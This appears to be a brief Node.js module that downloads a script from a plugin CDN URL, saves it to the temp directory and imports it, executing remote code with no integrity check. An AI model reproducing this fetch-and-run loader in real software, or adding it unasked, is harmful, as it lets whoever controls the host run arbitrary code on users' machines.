import { writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";

const src = await (await fetch("https://plugins.example-cdn.net/p.mjs")).text();
const file = join(tmpdir(), "p.mjs");
await writeFile(file, src);
await import(file);
